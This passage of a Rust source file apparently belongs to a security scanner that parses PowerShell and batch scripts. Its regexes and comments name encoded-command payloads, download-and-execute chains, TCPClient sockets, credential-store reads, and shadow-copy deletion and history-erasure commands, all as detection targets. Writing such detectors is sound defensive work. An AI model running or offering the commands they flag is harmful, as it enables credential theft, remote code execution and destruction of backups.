//! PowerShell extractor (pattern level).
//!
//! Comments (`# ...` and `<# ... #>`) are blanked first, keeping offsets.
//! Each logical line (backtick continuations joined) is split into pipeline
//! segments; each segment's command is classified from its tokens. Simple
//! `$var = ...` assignments give bindings, so a download stored in a variable
//! and later passed to `iex` is a download-and-execute, and a secret file
//! read into `$k` flows into the `-Body $k` of a POST. `-EncodedCommand`
//! payloads (base64 of UTF-16LE) and `FromBase64String` literals are decoded
//! and analysed again.

use super::download_run::DownloadRun;
use super::exec_op::{ExecForm, ExecOp, Manner, form_of};
use super::fs_op::{self, FsKind, FsOp};
use super::indicators::{URL_RE, classify_path, is_secret_env};
use super::net_send::{self, NetCall, NetKind};
use super::ps_ast::{Foreach, Shape};
use super::ps_words::{
    char_join, file_name, has_flag, is_profile_ref, list_elements, mask_comments, one_quoted,
    param, positional, segments, split_plus, tokens,
};
use super::system_op::{self, Spelling, SysKind, SystemOp};
use super::{Lang, Sink, Src};
use crate::evidence::{Evidence, Op, Origin, Tag};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};
use std::collections::{HashMap, HashSet};

#[path = "ps_encode.rs"]
mod encode;
#[path = "ps_started.rs"]
mod started;

const LANG: &str = "powershell";

static ENC_CMD: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)(?:^|[\s'",])[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand)?['"]?(?:\s*,\s*|\s+)['"]?([A-Za-z0-9+/=]{12,})"#,
);
static FROM_B64: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\[(?:System\.)?Convert\]::FromBase64String\(\s*(?:["']([A-Za-z0-9+/=\s]*)["']|([^)]*))\)"#,
);
/// `-EncodedCommand $var` / `-enc ${var}`: the payload is in a variable.
static ENC_CMD_VAR: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)(?:^|[\s'",])[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand)?['"]?(?:\s*,\s*|\s+)\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"#,
);
/// `$name += value`.
static APPEND: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?i)^\s*\$([A-Za-z_][A-Za-z0-9_]*)\s*\+=\s*(.*)$");
static HIDDEN: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)(?:^|\s)-(?:w|wi|win|wind|windo|window|windows|windowst|windowsty|windowstyl|windowstyle)\s+(?:hidden|1)\b",
);
/// A file read inline as a request's body or form: `-Body (Get-Content p)`,
/// `-Form @{ f = Get-Item p }`.
static BODY_FILE: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)-(?:Body|Form)\s*[(@][^|;]*?\b(?:Get-Content|Get-Item|gc|gi|cat)\s+(?:-(?:Path|LiteralPath)\s+)?['"]?([^\s'"(){};]+)"#,
);

static WEBCLIENT: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\.(DownloadString|DownloadFile|DownloadData|DownloadStringAsync|DownloadFileAsync|OpenRead|UploadString|UploadFile|UploadData|UploadValues)\s*\(([^)]*)\)"#,
);
static ENV_VAR: crate::rx::Lazy = crate::rx::Lazy::new(r"(?i)\$env:([A-Za-z_][A-Za-z0-9_]*)");
static ENV_DUMP: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\b(?:Get-ChildItem|gci|dir|ls|Get-Item)\s+(?:-Path\s+)?env:\\?\s*(?:$|[|;)])|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(",
);
static ASSIGN: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?i)^\s*\$([A-Za-z_][A-Za-z0-9_:]*)(\[[^\]\n=]{1,80}\])?\s*=\s*(.*)$");
/// Round 44: a batch file's `set NAME=value` / `set "NAME=value"` (`.cmd`
/// and `.bat` are read by this reader), whose `%NAME%` is then folded.
static BATCH_SET: crate::rx::Lazy =
    crate::rx::Lazy::new(r#"(?i)^\s*set\s+"?([A-Za-z_][A-Za-z0-9_]*)=([^"\n]*)"?\s*$"#);
static VAR_REF: crate::rx::Lazy = crate::rx::Lazy::new(r"\$([A-Za-z_][A-Za-z0-9_]*)");
static TCP_CLIENT: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\s*\(?\s*["']?([^"',)\s]+)["']?\s*,\s*(\d+)"#,
);
static READ_ALL: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\[(?:System\.)?IO\.File\]::(ReadAllText|ReadAllBytes|ReadAllLines|WriteAllText|WriteAllBytes|WriteAllLines|AppendAllText|AppendAllLines|Delete|Copy)\(\s*([^,)]*)"#,
);
static SCRIPTBLOCK: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?i)\[(?:System\.Management\.Automation\.)?ScriptBlock\]::Create\(");

pub fn extract(src: &Src, sink: &mut Sink) {
    let masked = mask_comments(src.text);
    let first = sink.items.len();
    let mut cx = Cx {
        src,
        sink,
        vars: HashMap::new(),
        arrays: HashMap::new(),
        walks: Default::default(),
        net_vars: HashMap::new(),
        secret_vars: HashSet::new(),
        downloads: HashSet::new(),
        archives: Vec::new(),
        dll_import: masked.contains("DllImport"),
        get_stream: src.text.contains("GetStream"),
        copy_budget: std::cell::Cell::new(COPY_BYTES_PER_BYTE * src.text.len() + (1 << 20)),
        acl_rule: None,
        fn_aliases: Default::default(),
        pipe_text: None,
        planted_budget: crate::limits::PS_MAX_PLANTED,
        batch: {
            let p = src.path.to_ascii_lowercase();
            p.ends_with(".cmd") || p.ends_with(".bat")
        },
        has_iex: {
            let l = masked.to_lowercase();
            l.contains("iex") || l.contains("invoke-expression")
        },
    };
    // Functions, calls, dot-sourced files and endless loops from the
    // grammar; the statements from the line reader, placed in them.
    let mut shape = super::ps_ast::read(src, &masked, cx.sink);
    let mut stmts: Vec<(usize, String)> = Vec::new();
    for (start, line) in super::ps_native::statements(super::ps_lines::logical_lines(&masked)) {
        let inner = super::ps_gates::block_statements(start, &line);
        stmts.push((start, line));
        stmts.extend(inner);
    }
    let loops = std::mem::take(&mut shape.foreach);
    cx.statements(&stmts, &loops, &mut shape);
    shape.finish(src, cx.sink, first);
    super::ps_gates::apply(src, &masked, cx.sink, first, LANG);
    if cx.copy_budget.get() == 0 {
        cx.sink.incomplete.push(format!(
            "{}: variable values copied more than {COPY_BYTES_PER_BYTE} bytes per byte of code; later values were not followed",
            src.path
        ));
    }
}

/// Whether a variable's value is short enough to substitute into a string
/// (`PS_MAX_SUBST`); a longer one is recorded as given up.
fn subst_size_ok(v: &str) -> bool {
    if v.len() < PS_MAX_SUBST {
        return true;
    }
    crate::limits::gave_up("PS_MAX_SUBST");
    false
}

/// Bytes of known variable values that resolving may copy, per byte of
/// code (plus 1 MiB): `$a2 = $a1 + 'y'` repeated stores a longer copy per
/// line, quadratic memory (314 KB took 193 MB) unless copies are counted.
/// Past the budget variables are unknown and the file is incomplete.
const COPY_BYTES_PER_BYTE: usize = 8;

/// Decodes a base64 payload as UTF-16LE when it looks like it (PowerShell's
/// `-EncodedCommand`), else as UTF-8 (one decoder for every language:
/// [`super::interp::encoded_powershell`]).
fn b64_text(s: &str) -> Option<String> {
    super::interp::encoded_powershell(s)
}

#[path = "ps_values.rs"]
mod values;

struct Cx<'s, 'a> {
    src: &'s Src<'a>,
    sink: &'s mut Sink,
    /// `$name` (lower-cased: PowerShell names are case-insensitive) →
    /// string value.
    vars: HashMap<String, String>,
    /// Variables assigned a literal list (`$a = @('x', 'y')`), lower case:
    /// what a `foreach` over them iterates.
    arrays: HashMap<String, Vec<String>>,
    /// Loop walks the file has left (`value_set`).
    walks: crate::extract::value_set::Walks,
    /// `$name` → URL it was downloaded from.
    net_vars: HashMap<String, String>,
    secret_vars: HashSet<String>,
    /// Files written by downloads (lower-cased file names).
    downloads: HashSet<String>,
    /// (archive file name, binding).
    archives: Vec<(String, String)>,
    dll_import: bool,
    has_iex: bool,
    /// The file reads a socket's stream (looked up once, not per match).
    get_stream: bool,
    /// Bytes of variable values that may still be copied (0: exhausted).
    copy_budget: std::cell::Cell<usize>,
    /// The last `FileSystemAccessRule(…)` built: what a `Set-Acl` grants.
    acl_rule: Option<String>,
    /// `Set-Alias x Cmd` / `New-Alias` (lower-cased; `value_set::Aliases`).
    fn_aliases: crate::extract::value_set::Aliases,
    /// Round 24: the known value piped into the current segment (`$code |
    /// Add-Content $PROFILE`), and the bytes of text written to start-up
    /// files that may still be read again (`PS_MAX_PLANTED`).
    pipe_text: Option<String>,
    planted_budget: usize,
    /// A `.cmd`/`.bat` file: `set NAME=…` and `%NAME%` are followed.
    batch: bool,
}

// Value-following caps (`limits.rs`); a hit marks the file incomplete.
use crate::limits::{PS_MAX_SUBST, PS_MAX_VAR_LEN as MAX_VAR_LEN};

const DOWNLOADERS: &[&str] = &[
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "curl",
    "wget",
    "start-bitstransfer",
];

impl<'s, 'a> Cx<'s, 'a> {
    /// Reads the statements in order. A loop over a literal list (`loops`,
    /// sorted by start) holds every value (`value_set`): its variable takes
    /// the riskiest value before the loop's first statement, and once the
    /// loop's last statement is read they are all read again per further
    /// value, keeping only what those walks add.
    fn statements(&mut self, stmts: &[(usize, String)], loops: &[Foreach], shape: &mut Shape) {
        // (loop, index of its first statement, evidence count before it,
        // the further values, the variable's value before the loop).
        type Open = (usize, usize, usize, Vec<String>, Option<String>);
        let mut open: Vec<Open> = Vec::new();
        let mut next = 0;
        for (i, (at, text)) in stmts.iter().enumerate() {
            while let Some(l) = loops.get(next).filter(|l| l.start <= *at) {
                if *at < l.end
                    && let Some(vals) = self.loop_values(&l.list)
                {
                    let pick = crate::extract::indicators::riskiest(&vals);
                    let (more, _) = crate::extract::value_set::iterations(&vals, pick.as_deref());
                    let saved = self.vars.get(&l.var).cloned();
                    match pick {
                        Some(v) => self.vars.insert(l.var.clone(), v),
                        None => self.vars.remove(&l.var),
                    };
                    let more = self.walks.take(more);
                    open.push((next, i, self.sink.items.len(), more, saved));
                }
                next += 1;
            }
            self.statement(*at, text, shape);
            let after = stmts.get(i + 1).map(|s| s.0).unwrap_or(usize::MAX);
            while open.last().is_some_and(|o| loops[o.0].end <= after) {
                let Some((l, from_stmt, first, more, saved)) = open.pop() else {
                    break;
                };
                let var = loops[l].var.clone();
                for v in more {
                    self.vars.insert(var.clone(), v);
                    let from = self.sink.items.len();
                    for (at, text) in &stmts[from_stmt..=i] {
                        self.statement(*at, text, shape);
                    }
                    crate::extract::value_set::drop_repeats(&mut self.sink.items, first, from);
                }
                match saved {
                    Some(v) => self.vars.insert(var, v),
                    None => self.vars.remove(&var),
                };
            }
        }
    }

    /// One statement, placed in its function and loop.
    fn statement(&mut self, at: usize, text: &str, shape: &mut Shape) {
        let before = self.sink.items.len();
        self.line(at, text);
        shape.place(at, &mut self.sink.items[before..]);
    }

    /// The values of a literal list (`@('a', "b")`, `'a', 'b'`, a
    /// variable assigned one), each resolved like any string; `None` when
    /// no element is known.
    fn loop_values(&self, list: &str) -> Option<Vec<String>> {
        let t = list.trim();
        if let Some(name) = t.strip_prefix('$') {
            return self.arrays.get(&name.to_ascii_lowercase()).cloned();
        }
        let vals: Vec<String> = list_elements(t)?
            .into_iter()
            .filter_map(|e| self.literal_value(e))
            .collect();
        (!vals.is_empty()).then_some(vals)
    }

    fn emit(&mut self, mut ev: Evidence, start: usize, end: usize, tags: &[Tag]) {
        if self.sink.is_full() {
            self.sink.dropped += 1;
            return;
        }
        ev.tags.extend(tags.iter().copied());
        if ev.instrument.is_empty() {
            ev.instrument = "powershell".into();
        }
        let ev = self.src.at(ev, start, end, LANG);
        self.sink.push(ev);
    }

    fn refs(&self, seg: &str) -> Vec<String> {
        let mut out = Vec::new();
        for c in VAR_REF.captures_iter(seg) {
            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
            let lower = name.to_lowercase();
            if matches!(
                lower.as_str(),
                "true" | "false" | "null" | "_" | "psscriptroot" | "pwd" | "home" | "env"
            ) {
                continue;
            }
            let b = format!("${name}");
            if !out.contains(&b) && out.len() < 12 {
                out.push(b);
            }
        }
        out
    }

    fn line(&mut self, base: usize, line: &str) {
        let first = self.sink.items.len();
        let lower = line.to_lowercase();
        // Round 26: `$session[$name] = Get-Content …` puts the value into
        // the container `$session` (its binding), which holds no literal.
        let (assign_to, body_off, indexed) = match ASSIGN.captures(line) {
            Some(c) => (
                c.get(1).map(|m| m.as_str().to_string()),
                c.get(3).map(|m| m.start()).unwrap_or(0),
                c.get(2).is_some(),
            ),
            None => (None, 0, false),
        };
        let binding = assign_to.as_ref().map(|n| format!("${n}"));
        if let (Some(name), true) = (&assign_to, body_off > 0 && !indexed) {
            let value = line[body_off..].trim();
            if let Some(v) = self.literal_value(value) {
                self.vars.insert(name.to_ascii_lowercase(), v);
            } else if let Some(v) = self.here_string(base + body_off, value) {
                self.vars.insert(name.to_ascii_lowercase(), v);
            } else if is_profile_ref(value) {
                // `$p = $PROFILE.CurrentUserAllHosts`: the start-up file.
                self.vars
                    .insert(name.to_ascii_lowercase(), value.to_string());
            } else if let Some(vals) = list_elements(value)
                .map(|es| {
                    es.into_iter()
                        .filter_map(|e| self.literal_value(e))
                        .collect::<Vec<_>>()
                })
                .filter(|v| !v.is_empty())
            {
                self.arrays.insert(name.to_ascii_lowercase(), vals);
            }
        } else if let Some(c) = APPEND.captures(line) {
            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
            let value = c.get(2).map(|m| m.as_str()).unwrap_or("").trim();
            // `$x += 'y'` grows the value in place (a copy per line was
            // quadratic).
            if let Some(v) = self.literal_value(value)
                && let Some(old) = self.vars.get_mut(&name.to_ascii_lowercase())
            {
                if old.len() + v.len() <= MAX_VAR_LEN {
                    old.push_str(&v);
                } else {
                    crate::limits::gave_up("PS_MAX_VAR_LEN");
                }
            }
        }
        if self.batch
            && let Some(c) = BATCH_SET.captures(line)
            && let (Some(n), Some(v)) = (c.get(1), c.get(2))
        {
            let v = self.substitute(v.as_str());
            if v.len() <= MAX_VAR_LEN {
                self.vars.insert(n.as_str().to_ascii_lowercase(), v);
            }
        }
        let segs = segments(line);
        let mut downloaded: Option<String> = None;
        let seg_names: Vec<String> = segs
            .iter()
            .map(|(_, s)| {
                let s = s.trim();
                let s = match ASSIGN.captures(s) {
                    Some(c) => c.get(3).map(|m| m.as_str()).unwrap_or(s),
                    None => s,
                };
                let invoked = s.starts_with(['&', '.']);
                tokens(s.trim_start_matches(['(', '&', '.', ' ']))
                    .first()
                    .map(|t| self.command_name(t, invoked))
                    .unwrap_or_default()
            })
            .collect();
        // The segment whose `iex` a download-then-run step already covers.
        let mut reported_for: Option<usize> = None;
        for (i, (off, seg)) in segs.iter().enumerate() {
            let start = base + off;
            let end = start + seg.len();
            let body = match ASSIGN.captures(seg) {
                Some(c) => c.get(3).map(|m| m.as_str()).unwrap_or(seg),
                None => seg,
            };
            let invoked = body.trim().starts_with(['&', '.']);
            let body = body.trim().trim_start_matches(['&', ' ']);
            let inner = body.trim_start_matches('(').trim_start();
            let (toks, name, written_len) = self.segment_words(inner, invoked);
            let piped_to_iex = seg_names.get(i + 1).is_some_and(|n| runs_code(n));
            let out = if i + 1 == segs.len() {
                binding.clone()
            } else {
                None
            };
            self.interpreter_code(&toks, start, end);
            self.pipe_text = (i > 0).then(|| self.literal_value(segs[i - 1].1)).flatten();
            let native = super::ps_native::command_line(body, &|v| self.literal_value(v));
            super::ps_native::analyse(native, self.src, self.sink, start, end);
            if let Some(url) = self.command(&name, &toks, body, start, end, out.clone()) {
                downloaded = Some(url.clone());
                if piped_to_iex {
                    self.download_exec(&url, start, end, Vec::new());
                    reported_for = Some(i + 1);
                }
            }
            // `iex (iwr ...)` / `iex $code` / `[scriptblock]::Create(...)`.
            if runs_code(&name) {
                let pipe = (i > 0).then(|| self.src.pos_bind("pipe", base + segs[i - 1].0));
                let rest = inner[written_len.min(inner.len())..].trim();
                self.invoke_expression(rest, pipe, reported_for == Some(i), start, end);
            }
        }
        if lower.contains("scriptblock") && SCRIPTBLOCK.is_match(line) {
            let m = SCRIPTBLOCK
                .find(line)
                .map(|m| (m.start(), m.end()))
                .unwrap_or((0, 0));
            let inputs = self.refs(&line[m.1..]);
            let ev = ExecOp::new(ExecForm::Code, "ScriptBlock")
                .object("script block built from a string")
                .instrument("[scriptblock]::Create")
                .inputs(inputs.clone())
                .lower();
            self.emit(ev, base + m.0, base + line.len(), &[]);
            if let Some(u) = inputs.iter().find_map(|b| self.net_vars.get(b)).cloned() {
                self.download_exec(&u, base + m.0, base + line.len(), inputs);
            }
        }
        if lower.contains(".download") || lower.contains(".upload") || lower.contains("openread") {
            self.webclient(base, line, binding.clone(), &mut downloaded);
        }
        self.encoded(base, line);
        if lower.contains("frombase64string") {
            self.base64_literals(base, line, binding.clone());
        }
        self.env(base, line, &lower, binding.clone());
        if lower.contains("tcpclient") {
            self.sockets(base, line);
        }
        if lower.contains("io.file]") {
            self.file_apis(base, line, binding.clone());
        }
        if let Some(i) = lower.find("filesystemaccessrule") {
            self.acl_rule = Some(crate::text::snippet(&line[i..], 200));
        }
        if let (Some(b), Some(u)) = (&binding, &downloaded) {
            self.net_vars.insert(b.clone(), u.clone());
        }
        if let Some(b) = &binding {
            let end = self.sink.items.len();
            let secret = self.sink.items[first.min(end)..end].iter().any(|e| {
                e.scope == R::Credentials
                    && matches!(
                        e.op,
                        Op::FileRead | Op::EnvRead | Op::EnvDump | Op::KeychainRead
                    )
            });
            if secret {
                self.secret_vars.insert(b.clone());
            }
        }
        // `-WindowStyle Hidden` hides whatever the line starts.
        if lower.contains("-w") && HIDDEN.is_match(line) {
            let end = self.sink.items.len();
            if end == first {
                let ev = Evidence::new(
                    Op::Background,
                    A::CallTool,
                    R::Process,
                    crate::text::snippet(line, 200),
                )
                .object("process started with a hidden window")
                .instrument("powershell");
                self.emit(ev, base, base + line.len(), &[]);
            }
            let end = self.sink.items.len();
            let hidden = Manner {
                detached: true,
                silenced: true,
            };
            hidden.mark(&mut self.sink.items[first.min(end)..end]);
        }
    }

    /// A segment's tokens with the first one the command it names (a call
    /// through an alias, `Set-Alias` or `& $f`, is the aliased command's;
    /// `Set-Alias`/`New-Alias` are noted), that name, and the length of the
    /// first word as written.
    fn segment_words(&mut self, inner: &str, invoked: bool) -> (Vec<String>, String, usize) {
        let mut toks = tokens(inner);
        let written_len = toks.first().map_or(0, String::len);
        let name = toks
            .first()
            .map(|t| self.command_name(t, invoked))
            .unwrap_or_default();
        if let Some(t0) = toks.first_mut()
            && !name.is_empty()
            && *name != t0.to_lowercase()
        {
            *t0 = name.clone();
        }
        if matches!(name.as_str(), "set-alias" | "new-alias" | "sal" | "nal") {
            self.note_alias(&toks);
        }
        (toks, name, written_len)
    }

    /// The command a pipeline segment's first word names, lower-cased:
    /// through `Set-Alias`/`New-Alias`, and `& $f` when `$f` holds a
    /// command's name (`value_set::Aliases`).
    fn command_name(&self, first: &str, invoked: bool) -> String {
        let lower = first.to_lowercase();
        if let Some(a) = self.fn_aliases.get(&lower) {
            return a.to_string();
        }
        if invoked
            && lower.starts_with('$')
            && let Some(v) = self.literal_value(first)
            && !v.is_empty()
            && !v.contains([' ', '\\', '/', '{', '('])
        {
            let v = v.to_lowercase();
            return self.fn_aliases.get(&v).map_or(v, str::to_string);
        }
        lower
    }

    /// `Set-Alias [-Name] x [-Value] Cmd`, `New-Alias …`.
    fn note_alias(&mut self, toks: &[String]) {
        let mut name = None;
        let mut value = None;
        let mut pos = Vec::new();
        let mut it = toks.iter().skip(1);
        while let Some(t) = it.next() {
            match t.to_lowercase().as_str() {
                "-name" | "-n" => name = it.next(),
                "-value" | "-v" => value = it.next(),
                "-scope" | "-option" | "-description" => {
                    it.next();
                }
                f if f.starts_with('-') => {}
                _ => pos.push(t),
            }
        }
        let mut pos = pos.into_iter();
        let name = name.or_else(|| pos.next());
        let value = value.or_else(|| pos.next());
        if let (Some(n), Some(v)) = (name, value) {
            let unq = |x: &str| x.trim_matches(['"', '\'']).to_lowercase();
            self.fn_aliases.bind(&unq(n), &unq(v));
        }
    }

    fn download_exec(&mut self, url: &str, start: usize, end: usize, inputs: Vec<String>) {
        let ev = DownloadRun::code(url, inputs)
            .instrument("Invoke-Expression")
            .lower();
        self.emit(ev, start, end, &[]);
    }

    /// One pipeline segment's command. Returns the URL of a download.
    fn command(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
        out: Option<String>,
    ) -> Option<String> {
        // A program named with its `.exe` first (`sc.exe create`: `sc` is
        // the Set-Content alias).
        if name.ends_with(".exe") && self.system_op(name, toks, body, start, end) {
            return None;
        }
        let name = name.trim_end_matches(".exe");
        // Round 24: Windows security tampering, one table for every host
        // (`win_tamper`); the native programs among its rows (`vssadmin`,
        // `bcdedit`, `wmic`) are read by the shell table via `ps_native`.
        if !super::ps_native::is_native(name)
            && let Some(row) = super::win_tamper::classify(name, toks.get(1..).unwrap_or(&[]))
        {
            let ev = super::win_tamper::evidence(row, name, body);
            self.emit(ev, start, end, &[Tag::Windows]);
            return None;
        }
        match name {
            n if DOWNLOADERS.contains(&n) => self.web_request(name, toks, body, start, end, out),
            n if form_of("powershell", n) == Some(ExecForm::Argv) => {
                self.start_process(toks, start, end)
            }
            n if fs_op::kind_of("powershell", n).is_some() => match fs_op::kind_of("powershell", n)
            {
                Some(FsKind::Delete) => self.remove_item(toks, start, end),
                Some(FsKind::Read) => self.get_content(toks, start, end, out),
                Some(FsKind::Copy) => self.copy_item(toks, start, end),
                Some(FsKind::List) => self.list_items(toks, start, end, out),
                Some(FsKind::Chmod) => self.acl(name, toks, body, start, end),
                _ => self.set_content(name, toks, body, start, end),
            },
            "compress-archive" => self.compress_archive(toks, start, end),
            "expand-archive" => self.expand_archive(toks, start, end),
            n if self.system_op(n, toks, &self.substitute(body), start, end) => None,
            "add-type" => {
                if self.dll_import || body.contains("DllImport") {
                    let ev = Evidence::new(Op::DynamicCode, A::CallTool, R::Process, "Add-Type")
                        .object("native code compiled at runtime (DllImport)")
                        .instrument("Add-Type");
                    self.emit(ev, start, end, &[Tag::Windows]);
                }
                None
            }
            "get-clipboard" | "gcb" => {
                let mut ev = Evidence::new(Op::ClipboardRead, A::Read, R::UserData, "clipboard")
                    .object("clipboard read")
                    .instrument(name);
                ev.output = out;
                self.emit(ev, start, end, &[]);
                None
            }
            n if super::ps_channels::NAMES.contains(&n) => {
                let ev = super::ps_channels::evidence(n, toks, body, self.refs(body));
                if let Some(mut ev) = ev {
                    ev.output = out;
                    self.emit(ev, start, end, &[]);
                }
                None
            }
            "cmdkey" | "vaultcmd" if body.to_lowercase().contains("/list") => {
                let mut ev = Evidence::new(Op::KeychainRead, A::Read, R::Credentials, name)
                    .object("Windows credential store read")
                    .instrument(name);
                ev.output = out;
                self.emit(ev, start, end, &[]);
                None
            }
            "clear-history" | "wevtutil" => {
                if name == "clear-history" || body.to_lowercase().contains(" cl ") {
                    let ev = Evidence::new(Op::AntiForensics, A::Write, R::LocalFs, name)
                        .tag(Tag::HistoryFile)
                        .object("history or event log erased")
                        .instrument(name);
                    self.emit(ev, start, end, &[]);
                }
                None
            }
            "powershell" | "pwsh" => self.powershell_child(name, toks, body, start, end),
            n if n.ends_with(".exe") || n.starts_with("./") || n.starts_with(".\\") => {
                self.run(&self.resolve(n), start, end, None);
                None
            }
            // A secret store read through its cmdlet (the operation
            // catalogue, shared by every language).
            _ => {
                if let Some(mut ev) = crate::extract::catalog::source(name, body, self.src) {
                    ev.output = out;
                    self.emit(ev, start, end, &[]);
                }
                None
            }
        }
    }

    /// `Invoke-WebRequest` and other downloaders: a send or a fetch. Returns the URL of a download.
    fn web_request(
        &mut self,
        name: &str,
        toks: &[String],
        body: &str,
        start: usize,
        end: usize,
        out: Option<String>,
    ) -> Option<String> {
        let url = param(toks, &["Uri", "Source"])
            .map(str::to_string)
            .or_else(|| {
                positional(
                    toks,
                    &[
                        "Method",
                        "OutFile",
                        "Body",
                        "InFile",
                        "Form",
                        "Headers",
                        "Destination",
                        "ContentType",
                        "o",
                        "X",
                        "d",
                        "UserAgent",
                    ],
                )
                .into_iter()
                .find(|t| t.contains("://") || t.starts_with('$'))
            })
            .map(|u| self.resolve(&u))
            .map(|u| match URL_RE.find(&u) {
                Some(m) => m.as_str().to_string(),
                None => u.trim_end_matches(')').to_string(),
            })
            .unwrap_or_default();
        let method = param(toks, &["Method", "X"])
            .unwrap_or("GET")
            .to_uppercase();
        let body_params =
            net_send::client("powershell", "Invoke-RestMethod").map_or(&[][..], |r| r.body);
        let sends = net_send::method_sends(&method) || param(toks, body_params).is_some();
        let mut inputs = self.refs(body);
        if let Some(f) = param(toks, &["InFile"]) {
            let f = self.resolve(f).to_lowercase();
            for (a, b) in &self.archives {
                if f.ends_with(a.as_str()) || a.ends_with(&f) {
                    inputs.push(b.clone());
                }
            }
        }
        let mut call = NetCall::http(sends, url.clone())
            .instrument(name)
            .inputs(inputs);
        if let Some(f) = param(toks, &["InFile"]) {
            call.uploads.push(self.resolve(f));
        }
        for c in BODY_FILE.captures_iter(body) {
            call.uploads.push(self.resolve(&c[1]));
        }
        if sends {
            call.output = out;
            let (reads, ev) = call.lower();
            for r in reads.into_iter().chain([ev]) {
                self.emit(r, start, end, &[]);
            }
            None
        } else {
            if let Some(f) = param(toks, &["OutFile", "Destination", "o"]) {
                let f = self.resolve(f);
                call.object = Some(format!("download to {f}"));
                call.output = Some(super::file_bind(&f));
                self.downloads.insert(file_name(&f));
            } else {
                call.output = out;
            }
            self.emit(call.lower().1, start, end, &[]);
            Some(url)
        }
    }

    /// `Start-Process`: a program run, elevated with `-Verb RunAs`.
    fn start_process(&mut self, toks: &[String], start: usize, end: usize) -> Option<String> {
        let target = self.target_arg(
            toks,
            &["FilePath"],
            &["ArgumentList", "Verb", "WindowStyle", "WorkingDirectory"],
        );
        let args = param(toks, &["ArgumentList", "Args"]).unwrap_or("");
        let verb = param(toks, &["Verb"]).unwrap_or("");
        let runas = system_op::spelling("powershell", "start-process", &[verb], "");
        self.run(format!("{target} {args}").trim(), start, end, runas);
        // `Start-Process F -ArgumentList A` is the command line `F A`,
        // read like the same line written out (`vssadmin delete shadows
        // /all`, `bcdedit /set {default} recoveryenabled No`).
        let prog = file_name(&target);
        let prog = prog.trim_end_matches(".exe");
        self.argument_code(prog, toks, start, end);
        if super::ps_native::is_native(prog) {
            let line = super::ps_native::join_line(prog, self.argument_list(toks).into_iter());
            super::ps_native::analyse(vec![line], self.src, self.sink, start, end);
        }
        None
    }

    /// The words of `-ArgumentList`: one string (`'delete shadows /all'`),
    /// an array (`'delete','shadows'`, `@('/set', '{default}')`, spaced or
    /// not), or a variable holding a string.
    fn argument_list(&self, toks: &[String]) -> Vec<String> {
        let Some(raw) = super::ps_words::argument_list_raw(toks) else {
            return Vec::new();
        };
        let raw = raw.trim();
        let raw = raw
            .strip_prefix("@(")
            .and_then(|r| r.strip_suffix(')'))
            .unwrap_or(raw);
        let one = |w: &str| -> String {
            let w = w.trim();
            if w.starts_with('$') {
                self.literal_value(w).unwrap_or_else(|| w.to_string())
            } else {
                w.to_string()
            }
        };
        if raw.contains(' ') || !raw.contains(',') {
            return one(raw).split_whitespace().map(str::to_string).collect();
        }
        raw.split(',').map(one).filter(|w| !w.is_empty()).collect()
    }

    /// The value of the first of the `named` parameters, else the first
    /// positional argument (the values of the `skip` parameters are not
    /// positional), resolved; empty when there is none.
    fn target_arg(&self, toks: &[String], named: &[&str], skip: &[&str]) -> String {
        param(toks, named)
            .map(str::to_string)
            .or_else(|| positional(toks, skip).into_iter().next())
            .map(|t| self.resolve(&t))
            .unwrap_or_default()
    }

    /// `Remove-Item`: a deletion, or history erased.
    fn remove_item(&mut self, toks: &[String], start: usize, end: usize) -> Option<String> {
        let target = self.target_arg(
            toks,
            &["Path", "LiteralPath"],
            &["Path", "LiteralPath", "Filter", "Include", "Exclude"],
        );
        if target.to_lowercase().contains("psreadline") || target.contains("ConsoleHost_history") {
            let ev = Evidence::new(Op::AntiForensics, A::Write, R::LocalFs, target.clone())
                .tag(Tag::HistoryFile)
                .object("shell history erased")
                .instrument("Remove-Item");
            self.emit(ev, start, end, &[]);
            return None;
        }
        let ev = FsOp::new(FsKind::Delete, target)
            .recursive(has_flag(toks, &["Recurse", "r", "s"]))
            .force(has_flag(toks, &["Force", "fo", "f", "q"]))
            .instrument("Remove-Item")
            .lower();
        self.emit(ev, start, end, &[]);
        None
    }

    /// `Copy-Item SRC DEST` (`cp`, `copy`): a copy, lowered by
    /// `FsOp::lower_copy` as in every language.
    fn copy_item(&mut self, toks: &[String], start: usize, end: usize) -> Option<String> {
        let skip = [
            "Path",
            "LiteralPath",
            "Destination",
            "Filter",
            "Include",
            "Exclude",
        ];
        let mut pos = positional(toks, &skip).into_iter();
        let mut arg = |named: &[&str]| {
            let t = param(toks, named)
                .map(str::to_string)
                .or_else(|| pos.next());
            t.map(|t| self.resolve(&t)).unwrap_or_default()
        };
        let from = arg(&["Path", "LiteralPath"]);
        let to = arg(&["Destination"]);
        for ev in FsOp::copy(from, to).instrument("Copy-Item").lower_copy() {
            self.emit(ev, start, end, &[]);
        }
        None
    }

    /// `Get-Content`: a file read.
    fn get_content(
        &mut self,
        toks: &[String],
        start: usize,
        end: usize,
        out: Option<String>,
    ) -> Option<String> {
        let target = self.target_arg(
            toks,
            &["Path", "LiteralPath"],
            &["Path", "Destination", "Encoding", "TotalCount", "Tail"],
        );
